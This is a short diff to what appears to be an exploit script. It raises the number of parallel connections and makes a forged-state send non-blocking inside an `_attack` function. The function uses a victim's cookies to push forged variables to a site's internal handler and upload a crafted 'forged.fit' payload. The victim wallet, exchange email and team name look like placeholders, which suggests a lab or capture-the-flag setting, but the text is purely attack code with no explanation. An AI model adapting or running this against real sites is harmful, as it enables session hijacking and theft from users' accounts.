@@ -67,7 +67,7 @@ B_WALLET = "bc1qquillfeatherzenobiawalletb0000000000"
 B_BINANCE = "quillfeather.binance@example.com"
 B_SATOSHI = 7_654_321
 B_TEAM = "Victim B Wheelers"  # a public team: its name is no secret
-PARALLEL_CONNECTIONS = 6
+PARALLEL_CONNECTIONS = 8
 UPDATE_VARS_STATE = UpdateVarsInternalState.get_full_name()
 
 
@@ -413,7 +413,7 @@ def _attack(site_url: str, cookies: dict[str, str], victim: Victim, call) -> tup
     try:
         connection.open()
         # The page load may have reset them: forged again, as the browser syncs storage, right before.
-        connection.send(handler_name(UPDATE_VARS_STATE, "update_vars_internal"), {"vars": forged})
+        connection.send(handler_name(UPDATE_VARS_STATE, "update_vars_internal"), {"vars": forged}, wait=False)
         if upload:
             connection.upload(full_name, payload, "forged.fit", small_fit(datetime(2026, 10, 4, tzinfo=UTC)))
         else:
